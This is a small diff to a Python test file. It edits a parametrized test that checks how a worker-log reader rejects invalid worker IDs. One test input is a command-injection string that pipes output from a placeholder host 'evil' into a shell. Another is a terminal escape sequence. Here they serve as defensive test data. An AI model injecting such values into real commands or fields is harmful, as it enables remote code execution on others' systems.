@@ -44,7 +44,7 @@ def test_reading_follows_the_latest_registration(lines: list[str], expected: dic
     assert {key: found[key] for key in expected} == expected
 
 
-@pytest.mark.parametrize("worker_id", ["AW_1; curl evil | sh #", "AW_1\x1b[2J", "", None, 7, ["AW_1"], "AJ_1"])
+@pytest.mark.parametrize("worker_id", ["AW_1; curl evil | sh #", "AW_1\x1b[2J", 7, ["AW_1"], "AJ_1"])
 def test_registration_with_an_id_that_no_server_makes_is_none(worker_id: Any) -> None:
     found = worker_log.read([registered("AW_2"), line("registered worker", id=worker_id, agent_name="other", url="ws://other")])
     assert (found["worker_ids"], found["agent_name"], found["url"]) == (["AW_2"], "sidekick", "ws://livekit:7880")
